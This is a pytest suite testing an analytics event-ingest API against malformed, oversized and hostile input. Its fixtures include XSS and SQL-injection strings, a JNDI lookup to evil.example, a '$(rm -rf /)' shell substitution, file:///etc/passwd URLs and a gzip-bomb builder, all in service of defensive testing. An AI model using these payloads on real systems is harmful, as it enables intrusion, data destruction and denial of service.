"""Hostile input to POST /api/event(s): every case is a clear 4xx or a documented drop, never a
500, and whatever is stored comes back verbatim through the query API without breaking it.

Socket-level abuse (slow clients, chunked floods) is in test_hostile_sockets.py; flood control
in test_flood.py.
"""

from __future__ import annotations

import gzip
import json
import logging
import zlib
from datetime import UTC, datetime
from typing import Any

import pytest

from footfall.ingest.payload import MAX_BATCH_BODY, MAX_EVENT_BODY
from tests.conftest import CHROME_WINDOWS, GOOGLEBOT, IP_DE, IP_GB, IP_US, Harness

PROFILES = ("embedded", "scale-out")

PAGEVIEW = {"n": "pageview", "u": "https://example.com/", "d": "example.com"}
NOW = datetime(2025, 6, 10, 10, 0, tzinfo=UTC)

# Text that would do harm if it were ever interpreted instead of stored: markup, SQL, format
# strings, parameter markers of both stores, template and shell syntax, odd Unicode.
HOSTILE = [
    "<script>alert(1)</script>",
    "'; DROP TABLE events; --",
    '" OR 1=1 --',
    "Robert'); DELETE FROM sessions WHERE ('1'='1",
    "%' OR '%'='",
    "$1 $t ? %s %(x)s {0} {{x}}",
    "\\'; \\\\ \\x00",
    "${jndi:ldap://evil.example/a}",
    "$(rm -rf /) `id`",
    "javascript:alert(document.cookie)",
    "\u202egnp.exe \u200b\ufeff 😀 ünïcødé",
    "]]}} ))) /* */ -- #",
]


@pytest.fixture
async def site(harness: Harness) -> dict[str, Any]:
    token = await harness.register()
    return await harness.create_site(token, "example.com")


@pytest.fixture
def token(harness: Harness, site: dict[str, Any]) -> str:
    return harness.users["owner@example.com"]


async def post(
    h: Harness,
    content: bytes,
    path: str = "/api/event",
    content_type: str = "application/json",
    ip: str = IP_DE,
    **headers: str,
) -> Any:
    return await h.client.post(
        path,
        content=content,
        headers={
            "Content-Type": content_type,
            "User-Agent": CHROME_WINDOWS,
            "X-Forwarded-For": ip,
            **headers,
        },
    )


def assert_clean_error(response: Any, status: int, code: str | None = None) -> dict[str, Any]:
    """A 4xx with the API's JSON error shape and a message, nothing internal."""
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/json"
    error = response.json()["error"]
    assert error["message"]
    assert "Traceback" not in response.text
    if code is not None:
        assert error["code"] == code, error
    return dict(error)


def nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


MALFORMED: list[tuple[str, bytes, str, int, str]] = [
    ("empty", b"", "/api/event", 400, "invalid_json"),
    ("blank", b" \r\n\t ", "/api/event", 400, "invalid_json"),
    ("truncated", b'{"n": "pageview", "u": ', "/api/event", 400, "invalid_json"),
    ("trailing garbage", b'{"n": "x"} {"n": "y"}', "/api/event", 400, "invalid_json"),
    ("single quotes", b"{'n': 'pageview'}", "/api/event", 400, "invalid_json"),
    ("NaN literal", b'{"n": "pageview", "sd": NaN}', "/api/event", 400, "invalid_json"),
    ("array for one event", json.dumps([PAGEVIEW]).encode(), "/api/event", 400, "invalid"),
    ("object for a batch", json.dumps(PAGEVIEW).encode(), "/api/events", 400, "invalid_batch"),
    ("number", b"42", "/api/event", 400, "invalid"),
    ("string", b'"pageview"', "/api/event", 400, "invalid"),
    ("true", b"true", "/api/event", 400, "invalid"),
    ("null", b"null", "/api/event", 400, "invalid"),
    ("null batch", b"null", "/api/events", 400, "invalid_batch"),
    ("batch of scalars", b"[1, 2, 3]", "/api/events", 400, "invalid"),
    ("batch of nulls", b"[null]", "/api/events", 400, "invalid"),
    ("invalid UTF-8", b'{"n": "\xff\xfe", "u": "x"}', "/api/event", 400, "invalid_json"),
    ("overlong UTF-8", b'{"n": "\xc0\xaf"}', "/api/event", 400, "invalid_json"),
    ("UTF-16 body", '{"n": "pageview"}'.encode("utf-16"), "/api/event", 400, "invalid_json"),
    ("BOM", b"\xef\xbb\xbf" + json.dumps(PAGEVIEW).encode(), "/api/event", 400, "invalid_json"),
    ("deep nesting", nested(100_000), "/api/events", 400, "invalid_json"),
    (
        "deep props",
        b'{"n":"x","u":"https://example.com/","d":"example.com","p":' + nested(5_000) + b"}",
        "/api/event",
        400,
        "invalid_json",
    ),
    (
        "huge number",
        b'{"n":"x","u":"https://example.com/","d":"example.com","e":1' + b"0" * 5000 + b"}",
        "/api/event",
        400,
        "invalid_json",
    ),
    (
        "1e400",
        b'{"n":"x","u":"https://example.com/","d":"example.com","sd":1e400}',
        "/api/event",
        400,
        "invalid_json",
    ),
]


@pytest.mark.parametrize(
    ("content", "path", "status", "code"),
    [pytest.param(*case[1:], id=case[0]) for case in MALFORMED],
)
async def test_malformed_bodies_are_clear_4xx(
    harness: Harness, site: dict[str, Any], content: bytes, path: str, status: int, code: str
) -> None:
    assert_clean_error(await post(harness, content, path), status, code)


@pytest.mark.parametrize(
    "event",
    [
        pytest.param({**PAGEVIEW, "n": "\ud800"}, id="name"),
        pytest.param({**PAGEVIEW, "u": "https://example.com/\udfff"}, id="url"),
        pytest.param({**PAGEVIEW, "d": "example.com\ud800"}, id="domain"),
        pytest.param({**PAGEVIEW, "r": "https://a.example/\udbff"}, id="referrer"),
        pytest.param({**PAGEVIEW, "p": {"k\ud800": "v"}}, id="prop key"),
        pytest.param({**PAGEVIEW, "p": {"k": "v\udc00"}}, id="prop value"),
        pytest.param({**PAGEVIEW, "el": {"x": "\ud800 click"}}, id="element text"),
        pytest.param({**PAGEVIEW, "id": "\ud800"}, id="event id"),
    ],
)
async def test_lone_surrogates_are_a_400(
    harness: Harness, site: dict[str, Any], event: dict[str, Any]
) -> None:
    # json.dumps escapes the surrogate as \ud800: JSON text, but not valid Unicode (RFC 8259
    # and I-JSON): the whole body is refused, in a batch too.
    content = json.dumps(event).encode()
    assert b"\\ud" in content
    for body, path in (
        (content, "/api/event"),
        (json.dumps([PAGEVIEW, event]).encode(), "/api/events"),
    ):
        error = assert_clean_error(await post(harness, body, path), 400)
        assert "surrogate" in error["message"]


async def test_lone_surrogates_in_props_sent_as_a_json_string(
    harness: Harness, site: dict[str, Any]
) -> None:
    event = {**PAGEVIEW, "p": '{"k": "\\ud800"}'}
    error = assert_clean_error(await harness.send(event), 400)
    assert error["field"] == "props"
    assert "surrogate" in error["message"]


async def test_ten_thousand_props(harness: Harness, site: dict[str, Any]) -> None:
    event = {**PAGEVIEW, "p": {f"k{i}": "v" for i in range(10_000)}}
    content = json.dumps(event).encode()
    assert MAX_EVENT_BODY < len(content) < MAX_BATCH_BODY
    assert_clean_error(await post(harness, content), 413, "payload_too_large")
    response = await post(harness, json.dumps([event]).encode(), "/api/events")
    error = assert_clean_error(response, 400, "invalid")
    assert error["field"] == "[0].props"


@pytest.mark.parametrize(
    "props",
    [
        {"a": {"b": {"c": "d"}}},
        {"a": ["x", "y"]},
        {"a": [{"b": 1}]},
        '{"a": {"b": 1}}',
        '"just a string"',
        "[1, 2]",
        "{not json",
    ],
)
async def test_nested_or_malformed_props_are_a_400(
    harness: Harness, site: dict[str, Any], props: Any
) -> None:
    error = assert_clean_error(await harness.send({**PAGEVIEW, "p": props}), 400)
    assert error["field"].startswith("props")


@pytest.mark.parametrize(
    ("event", "field"),
    [
        ({**PAGEVIEW, "n": "n" * 121}, "name"),
        ({**PAGEVIEW, "u": "https://example.com/" + "a" * 2_000}, "url"),
        ({**PAGEVIEW, "d": "d" * 1_001}, "domain"),
        ({**PAGEVIEW, "r": "https://r.example/" + "r" * 8_200}, "referrer"),
        ({**PAGEVIEW, "p": {"k" * 301: "v"}}, "props." + "k" * 50),
        ({**PAGEVIEW, "p": {"": "v"}}, "props."),
        ({**PAGEVIEW, "p": {"k": "v" * 2_001}}, "props.k"),
        ({**PAGEVIEW, "id": "i" * 65}, "id"),
        ({**PAGEVIEW, "$": {"amount": "1" * 400, "currency": "EUR"}}, "revenue.amount"),
        ({**PAGEVIEW, "$": {"amount": "1e999999", "currency": "EUR"}}, "revenue.amount"),
        ({**PAGEVIEW, "$": {"amount": "NaN", "currency": "EUR"}}, "revenue.amount"),
        ({**PAGEVIEW, "$": {"amount": 5, "currency": "€UR"}}, "revenue.currency"),
        ({**PAGEVIEW, "w": 10**30}, "screen_width"),
        ({**PAGEVIEW, "e": -(10**30)}, "engaged_ms"),
    ],
)
async def test_over_long_and_out_of_range_fields_are_named(
    harness: Harness, site: dict[str, Any], event: dict[str, Any], field: str
) -> None:
    error = assert_clean_error(await post(harness, json.dumps(event).encode("utf-8")), 400)
    assert error["field"] == field


async def test_over_long_element_text_is_cut(harness: Harness, site: dict[str, Any]) -> None:
    long_text = "click " * 5_000
    event = {**PAGEVIEW, "n": "click", "el": {"t": "a" * 100, "x": long_text, "s": "s" * 900}}
    response = await harness.send([event], path="/api/events")
    assert response.json()["accepted"] == 1
    await harness.flush()
    rows = harness.runtime.store.query(
        "SELECT element_tag, element_text, element_selector FROM events"
    )
    assert [tuple(len(v) for v in row) for row in rows] == [(32, 200, 500)]


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//example.com/no-scheme",
        "/relative",
        "https://",
        "https://:80/",
        "http://[::1/",
    ],
)
async def test_non_web_page_urls_are_a_400(
    harness: Harness, site: dict[str, Any], url: str
) -> None:
    error = assert_clean_error(await harness.send({**PAGEVIEW, "u": url}), 400)
    assert error["field"] == "url"


async def test_hostile_text_is_stored_verbatim_and_queried_safely(
    harness: Harness, token: str, site: dict[str, Any]
) -> None:
    """Every client-controlled field carries markup, SQL and format strings; each comes back
    as the same text from the query API, and filtering on it works."""
    events = []
    for index, text in enumerate(HOSTILE):
        events.append(
            {
                "n": text,
                "u": "https://example.com/p" + str(index),
                "d": "example.com",
                "r": f"https://ref{index}.example/",
                "p": {text: text, "k": text},
                "el": {"t": "a", "x": text, "s": text, "h": text},
            }
        )
    response = await harness.send(events, path="/api/events")
    assert response.json() == {"accepted": len(HOSTILE), "dropped": {}, "rejected": []}
    sid = site["id"]

    async def values(dimension: str, **extra: Any) -> set[str]:
        body = await harness.query(
            token,
            site_id=sid,
            metrics=["events"],
            dimensions=[dimension],
            date_range="day",
            limit=1000,
            **extra,
        )
        return {row["dimensions"][0] for row in body["results"]}

    assert await values("event:name") == set(HOSTILE)
    assert await values("event:props:k") == set(HOSTILE)
    assert await values("event:element_text") == set(HOSTILE)
    assert await values("event:element_selector") == set(HOSTILE)
    assert await values("event:element_href") == set(HOSTILE)
    for text in HOSTILE:
        # The hostile text as a prop key, as a filter value, as a contains pattern.
        # (Events without the prop are the "" group.)
        assert await values(f"event:props:{text}") == {text, ""}
        assert await values("event:name", filters=[["is", "event:name", [text]]]) == {text}
        assert await values("event:page", filters=[["contains", "event:name", [text[3:9]]]])
        assert await values("event:props:k", filters=[["is", f"event:props:{text}", [text]]]) == {
            text
        }
    # Stores are unharmed: the tables are all there and hold exactly these events.
    total = await harness.query(token, site_id=sid, metrics=["events"], date_range="day")
    assert total["results"][0]["metrics"] == [len(HOSTILE)]


async def test_hostile_text_in_urls_and_utm_tags(
    harness: Harness, token: str, site: dict[str, Any]
) -> None:
    from urllib.parse import quote

    for index, text in enumerate(HOSTILE):
        url = f"https://example.com/{quote(text)}?utm_source={quote(text)}&utm_campaign=c{index}"
        response = await harness.send({**PAGEVIEW, "u": url}, ip=f"85.214.132.{index + 1}")
        assert response.status_code == 202, response.text
    body = await harness.query(
        token,
        site_id=site["id"],
        metrics=["visitors"],
        dimensions=["event:page", "visit:utm_source"],
        date_range="day",
        limit=100,
    )
    rows = {tuple(row["dimensions"]) for row in body["results"]}
    assert rows == {("/" + text, text.strip()) for text in HOSTILE}


@pytest.mark.parametrize(
    ("url", "page"),
    [
        ("https://example.com/a%00b", "/a\ufffdb"),
        ("https://example.com/%ED%A0%80", "/\ufffd\ufffd\ufffd"),
        ("https://example.com/%ff%fe", "/\ufffd\ufffd"),
    ],
)
async def test_percent_encoded_nul_and_invalid_bytes_in_urls(
    harness: Harness, token: str, site: dict[str, Any], url: str, page: str
) -> None:
    response = await harness.send({**PAGEVIEW, "u": url + "?utm_source=x%00y"})
    assert response.status_code == 202, response.text
    body = await harness.query(
        token,
        site_id=site["id"],
        metrics=["pageviews"],
        dimensions=["event:page", "visit:utm_source"],
        date_range="day",
    )
    assert [row["dimensions"] for row in body["results"]] == [[page, "x\ufffdy"]]


@pytest.mark.parametrize(
    "referrer",
    [
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "<script>alert(1)</script>",
        "'; DROP TABLE sessions; --",
        "http://[::1",
        "https://user:pass@evil.example:99999/",
    ],
)
async def test_hostile_referrers_are_accepted_without_harm(
    harness: Harness, token: str, site: dict[str, Any], referrer: str
) -> None:
    response = await harness.send({**PAGEVIEW, "r": referrer})
    assert response.status_code == 202, response.text
    body = await harness.query(
        token,
        site_id=site["id"],
        metrics=["visitors"],
        dimensions=["visit:source", "visit:referrer"],
        date_range="day",
    )
    assert len(body["results"]) == 1
    assert body["results"][0]["metrics"] == [1]


@pytest.mark.parametrize(
    "claimed",
    [
        {"ts": "2099-01-01T00:00:00Z"},
        {"timestamp": 4102444800000},
        {"t": 0},
        {"date": "1970-01-01"},
        {"ts": "1900-01-01T00:00:00Z", "timestamp": -1},
    ],
)
async def test_client_timestamps_are_ignored_server_time_wins(
    harness: Harness, token: str, site: dict[str, Any], claimed: dict[str, Any]
) -> None:
    response = await harness.send({**PAGEVIEW, **claimed}, at=NOW)
    assert response.status_code == 202
    body = await harness.query(
        token,
        site_id=site["id"],
        metrics=["pageviews"],
        dimensions=["time:hour"],
        date_range=["2025-06-10", "2025-06-10"],
    )
    hours = {
        row["dimensions"][0]: row["metrics"][0] for row in body["results"] if row["metrics"][0]
    }
    assert hours == {"2025-06-10 12:00:00": 1}  # 10:00 UTC, Europe/Berlin


async def test_duplicate_ids_count_once_within_and_across_requests(
    harness: Harness, token: str, site: dict[str, Any]
) -> None:
    batch = [{**PAGEVIEW, "id": "dup-1"}, {**PAGEVIEW, "id": "dup-1"}, {**PAGEVIEW, "id": "dup-2"}]
    first = await harness.send(batch, path="/api/events")
    assert first.json() == {"accepted": 2, "dropped": {"duplicate": 1}, "rejected": []}
    again = await harness.send(batch, path="/api/events")
    assert again.json() == {"accepted": 0, "dropped": {"duplicate": 3}, "rejected": []}
    assert again.headers["x-footfall-dropped"] == "duplicate"
    other_ip = await harness.send({**PAGEVIEW, "id": "dup-2"}, ip=IP_US)
    assert other_ip.json() == {"status": "dropped", "reason": "duplicate"}
    body = await harness.query(token, site_id=site["id"], metrics=["pageviews"], date_range="day")
    assert body["results"][0]["metrics"] == [2]


@pytest.mark.parametrize(
    ("overrides", "ip", "ua", "reason"),
    [
        ({"r": "https://semalt.com/"}, IP_DE, CHROME_WINDOWS, "spam_referrer"),
        ({"r": "http://www.Semalt.COM/path"}, IP_DE, CHROME_WINDOWS, "spam_referrer"),
        ({"r": "https://sub.darodar.com:8080/x"}, IP_DE, CHROME_WINDOWS, "spam_referrer"),
        ({}, "3.120.10.20", CHROME_WINDOWS, "datacenter"),  # AWS
        ({}, "34.90.1.1", CHROME_WINDOWS, "datacenter"),  # Google Cloud
        ({}, "167.99.10.10", CHROME_WINDOWS, "datacenter"),  # DigitalOcean
        ({}, "2a01:4f8:1:2::3", CHROME_WINDOWS, "datacenter"),  # Hetzner
        ({}, "::ffff:3.120.10.20", CHROME_WINDOWS, "datacenter"),
        ({}, IP_DE, GOOGLEBOT, "bot"),
        ({}, IP_DE, "curl/8.5.0", "bot"),
        ({}, IP_DE, "Mozilla/5.0 HeadlessChrome/120.0", "bot"),
        ({}, IP_DE, "", "bot"),
    ],
)
async def test_spam_datacenter_and_bot_traffic_is_dropped_with_a_reason(
    harness: Harness, site: dict[str, Any], overrides: dict[str, Any], ip: str, ua: str, reason: str
) -> None:
    response = await harness.send({**PAGEVIEW, **overrides}, ip=ip, ua=ua)
    assert response.status_code == 202
    assert response.headers["x-footfall-dropped"] == reason
    assert response.json() == {"status": "dropped", "reason": reason}


async def test_a_mixed_batch_reports_each_drop(harness: Harness, site: dict[str, Any]) -> None:
    batch = [
        PAGEVIEW,
        {**PAGEVIEW, "r": "https://semalt.com/"},
        {**PAGEVIEW, "d": "unknown.example"},
        {**PAGEVIEW, "u": "javascript:alert(1)"},
    ]
    response = await harness.send(batch, path="/api/events", ip="3.120.10.20")
    assert response.json()["dropped"] == {"datacenter": 2, "unknown_site": 1}
    assert response.headers["x-footfall-dropped"] == "datacenter,unknown_site"
    assert response.headers["x-footfall-rejected"] == "1"


def gzip_bomb(size: int) -> bytes:
    """`size` bytes of JSON-ish padding, compressed about 1000:1."""
    return gzip.compress(b'{"n": "' + b" " * size + b'"}', compresslevel=9)


async def test_gzip_and_deflate_bodies_are_accepted(
    harness: Harness, token: str, site: dict[str, Any]
) -> None:
    single = json.dumps(PAGEVIEW).encode()
    batch = json.dumps([{**PAGEVIEW, "u": f"https://example.com/{i}"} for i in range(3)]).encode()
    for coding, packed in (
        ("gzip", gzip.compress(single)),
        ("x-gzip", gzip.compress(single)),
        ("deflate", zlib.compress(single)),
        ("deflate", zlib.compress(single)[2:-4]),  # raw deflate, as some clients send it
        ("GZIP", gzip.compress(single)),
    ):
        response = await post(harness, packed, **{"Content-Encoding": coding})
        assert response.status_code == 202, (coding, response.text)
    response = await post(
        harness, gzip.compress(batch), "/api/events", **{"Content-Encoding": "gzip"}
    )
    assert response.json()["accepted"] == 3
    body = await harness.query(token, site_id=site["id"], metrics=["pageviews"], date_range="day")
    assert body["results"][0]["metrics"] == [8]


@pytest.mark.parametrize(
    ("path", "limit"), [("/api/event", MAX_EVENT_BODY), ("/api/events", MAX_BATCH_BODY)]
)
async def test_gzip_bombs_are_a_413(
    harness: Harness, site: dict[str, Any], path: str, limit: int
) -> None:
    bomb = gzip_bomb(1024 * 1024 * 1024)  # 1 GiB inflated, ~1 MB on the wire
    assert_clean_error(await post(harness, bomb, path, **{"Content-Encoding": "gzip"}), 413)
    small_bomb = gzip_bomb(limit * 4)  # fits on the wire, too big inflated
    assert len(small_bomb) < limit
    error = assert_clean_error(
        await post(harness, small_bomb, path, **{"Content-Encoding": "gzip"}), 413
    )
    assert "decompressed" in error["message"]
    just_fits = gzip.compress(json.dumps(PAGEVIEW).encode() + b" " * (limit - 200))
    response = await post(harness, just_fits, path, **{"Content-Encoding": "gzip"})
    assert response.status_code in (202, 400), response.text  # /api/events wants an array


@pytest.mark.parametrize(
    ("content", "coding", "status", "code"),
    [
        (b"\x1f\x8b", "gzip", 400, "invalid_encoding"),
        (b"not gzip at all", "gzip", 400, "invalid_encoding"),
        (gzip.compress(b'{"n":1}')[:-8], "gzip", 400, "invalid_encoding"),
        (gzip.compress(b"{}") + b"junk", "gzip", 400, "invalid_encoding"),
        (b"garbage", "deflate", 400, "invalid_encoding"),
        (gzip.compress(b"\xff\xfe"), "gzip", 400, "invalid_json"),
        (b"{}", "br", 415, "unsupported_media_type"),
        (b"{}", "zstd", 415, "unsupported_media_type"),
        (b"{}", "gzip, gzip", 415, "unsupported_media_type"),
        (b"{}", "compress", 415, "unsupported_media_type"),
    ],
)
async def test_bad_compressed_bodies_are_clear_4xx(
    harness: Harness, site: dict[str, Any], content: bytes, coding: str, status: int, code: str
) -> None:
    response = await post(harness, content, **{"Content-Encoding": coding})
    assert_clean_error(response, status, code)


async def test_declared_oversize_is_refused_and_the_connection_closed(
    harness: Harness, site: dict[str, Any]
) -> None:
    for path, limit in (("/api/event", MAX_EVENT_BODY), ("/api/events", MAX_BATCH_BODY)):
        response = await post(harness, b"{}", path, **{"Content-Length": str(limit + 1)})
        assert_clean_error(response, 413, "payload_too_large")
        assert response.headers["connection"] == "close"
        big = b"[" + b" " * limit + b"]"
        assert_clean_error(await post(harness, big, path), 413, "payload_too_large")


async def test_the_store_is_intact_after_the_barrage(
    harness: Harness, token: str, site: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    """Everything above at once, then known traffic: the answers are exact and nothing failed."""
    caplog.set_level(logging.WARNING)
    for _, content, path, _, _ in MALFORMED:
        assert (await post(harness, content, path)).status_code < 500
    bomb = gzip_bomb(64 * 1024 * 1024)
    assert (await post(harness, bomb, **{"Content-Encoding": "gzip"})).status_code == 413
    hostile = [
        {"n": text, "u": "https://example.com/x", "d": "example.com", "p": {text: text}}
        for text in HOSTILE
    ]
    assert (await harness.send(hostile, path="/api/events", ip=IP_GB)).status_code == 202
    await harness.send({**PAGEVIEW, "r": "https://semalt.com/"}, ip=IP_US)
    await harness.send(PAGEVIEW, ip="3.120.10.20")
    await harness.send(PAGEVIEW, ua=GOOGLEBOT)
    # Known traffic: two visitors, three pageviews.
    await harness.send(PAGEVIEW, ip=IP_DE)
    await harness.send({**PAGEVIEW, "u": "https://example.com/pricing"}, ip=IP_DE)
    await harness.send(PAGEVIEW, ip=IP_US)
    body = await harness.query(
        token,
        site_id=site["id"],
        metrics=["visitors", "pageviews", "events"],
        dimensions=["event:page"],
        filters=[["is", "event:name", ["pageview"]]],
        date_range="day",
        order_by=[["pageviews", "desc"]],
    )
    assert [(r["dimensions"], r["metrics"]) for r in body["results"]] == [
        (["/"], [2, 2, 2]),
        (["/pricing"], [1, 1, 1]),
    ]
    total = await harness.query(
        token, site_id=site["id"], metrics=["visitors", "events"], date_range="day"
    )
    assert total["results"][0]["metrics"] == [3, 3 + len(HOSTILE)]
    failures = [r for r in caplog.records if r.levelno >= logging.ERROR]
    assert not failures, [r.getMessage() for r in failures]
